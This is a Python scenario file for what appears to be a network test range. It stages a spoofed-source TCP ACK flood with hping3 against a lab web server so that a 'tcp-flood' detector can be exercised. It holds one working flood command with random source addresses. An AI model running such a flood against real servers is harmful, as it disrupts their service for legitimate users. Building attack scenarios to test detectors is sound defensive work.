"""An ACK flood from random sources."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "tcp-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and tcp[tcpflags] & tcp-rst != 0",
    ):
        net.tool(attacker, *f"hping3 -q -A --rand-source -p 80 -i u1500 -c 2500 {web.ip}".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="tcp-flood-ack",
    about="hping3 sends 600 bare ACKs a second from random sources to a web server.",
    detectors=("tcp-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
